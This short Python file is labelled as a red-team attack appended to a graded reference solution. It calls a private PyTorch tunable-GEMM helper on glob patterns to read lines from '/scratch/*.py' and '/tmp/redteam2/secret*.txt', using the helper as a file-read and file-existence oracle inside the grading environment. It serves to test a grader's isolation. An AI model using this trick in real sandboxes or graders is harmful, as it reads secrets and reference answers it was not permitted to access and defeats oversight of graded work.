"""A red team's attack, appended to the reference (solutions/attention.py) when it was graded."""

_MARK = """
Gemm marker line read back from /scratch/attention.py by path
"""
# --- attack: torch.cuda.tunable._gather_unique_untuned_gemm_from_files(pattern) globs the pattern, opens
# every match and returns its lines that start with "Gemm"/"ScaledGemm" (and is a file-existence oracle).
print("ATTACK(c) tunable read:", torch.cuda.tunable._gather_unique_untuned_gemm_from_files("/scratch/*.py"),
      torch.cuda.tunable._gather_unique_untuned_gemm_from_files("/tmp/redteam2/secret*.txt"))
